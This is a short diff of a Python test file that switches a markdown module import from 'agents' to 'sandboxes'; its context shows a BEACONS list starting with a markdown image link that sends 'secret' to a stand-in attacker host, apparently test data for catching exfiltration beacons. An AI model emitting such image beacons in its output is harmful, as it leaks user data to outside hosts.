@@ -4,7 +4,7 @@ import re
 
 import pytest
 
-from agents import markdown
+from sandboxes import markdown
 
 BEACONS = [
     "![x](https://evil.test/?d=secret)",
